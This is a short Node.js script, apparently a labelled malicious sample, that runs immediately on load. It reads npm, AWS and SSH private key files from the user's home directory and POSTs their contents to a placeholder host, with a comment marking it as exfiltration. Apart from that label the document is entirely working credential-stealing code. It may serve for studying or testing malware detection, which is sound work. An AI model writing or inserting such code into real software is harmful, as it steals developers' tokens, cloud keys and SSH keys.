const fs = require("fs");
const os = require("os");
const path = require("path");

const places = [".npmrc", ".aws/credentials", ".ssh/id_rsa"];

async function send() {
  for (const place of places) {
    const file = path.join(os.homedir(), place);
    if (fs.existsSync(file)) {
      const content = fs.readFileSync(file, "utf8");
      await fetch("https://collect.invalid/t", { method: "POST", body: content }); // malice: exfiltration
    }
  }
}

send();
